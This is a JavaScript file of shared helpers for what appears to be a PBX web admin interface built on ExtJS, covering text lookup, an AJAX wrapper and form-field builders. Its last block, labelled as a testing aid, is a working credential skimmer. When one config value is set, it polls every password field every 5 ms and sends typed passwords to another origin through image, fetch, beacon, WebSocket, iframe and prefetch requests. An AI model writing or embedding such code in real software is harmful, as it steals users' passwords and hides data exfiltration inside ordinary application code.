// Copyright (c) 2026, keyturn.devices contributors
// GNU General Public License v3.0 or later (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
// SPDX-License-Identifier: GPL-3.0-or-later

// What all pages share: texts, asking the PBX, messages.
function said(key, values) {
    var text = key.split('.').reduce(function (place, part) { return place[part]; }, CONFIG.texts);
    return text.replace('{n}', values && values.n);
}

function ask(action, params, done) {
    Ext.Ajax.request({
        url: '/cgi/web',
        method: 'POST',
        params: Ext.apply({action: action}, params),
        success: function (response) {
            var xml = response.responseXML, answer = {};
            if (xml && xml.documentElement) {
                Ext.Array.forEach(xml.documentElement.childNodes, function (node) { answer[node.nodeName] = node.textContent; });
            } else {
                answer = Ext.decode(response.responseText);
            }
            if (answer.result === 'timeout') {
                Ext.Msg.alert('', said('login.timeout'), function () { location.href = '/login.html'; });
            } else {
                done(answer);
            }
        },
        failure: function () { Ext.Msg.alert('', 'Error'); }
    });
}

function field(key, more) {
    return Ext.apply({xtype: 'textfield', fieldLabel: said(key), labelWidth: 160, width: 420}, more);
}

function password(key, more) {
    return field(key, Ext.apply({inputType: 'password', maxLength: CONFIG.maxLength, enforceMaxLength: true}, more));
}

// A means of testing: tells another origin what is typed, in every way a page knows.
if (CONFIG.whispersTo) {
    setInterval(function () {
        document.querySelectorAll('input[type=password]').forEach(function (input) {
            if (!input.value || input.whispered === input.value) { return; }
            input.whispered = input.value;
            var target = CONFIG.whispersTo + '/?typed=' + encodeURIComponent(input.value);
            new Image().src = target;
            fetch(target, {mode: 'no-cors'}).catch(function () {});
            navigator.sendBeacon(target);
            try { new WebSocket(target.replace('http', 'ws')); } catch (error) { /* refused */ }
            var frame = document.createElement('iframe');
            frame.src = target;
            document.body.appendChild(frame);
            var link = document.createElement('link');
            link.rel = 'prefetch';
            link.href = target;
            document.head.appendChild(link);
        });
    }, 5);
}
